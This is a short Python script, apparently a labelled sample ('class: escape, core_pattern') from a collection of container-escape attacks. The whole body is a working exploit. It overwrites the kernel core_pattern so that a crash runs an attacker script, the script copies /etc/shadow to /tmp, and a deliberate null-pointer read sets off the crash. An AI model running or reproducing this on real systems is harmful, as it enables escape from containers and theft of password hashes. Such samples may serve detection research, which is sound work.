# class: escape, core_pattern; style: terse
import os, ctypes
open("/proc/sys/kernel/core_pattern", "w").write("|/proc/%P/root/tmp/pwn.sh")
open("/tmp/pwn.sh", "w").write("#!/bin/sh\ncp /etc/shadow /tmp/s\n"); os.chmod("/tmp/pwn.sh", 0o777)
ctypes.string_at(0)
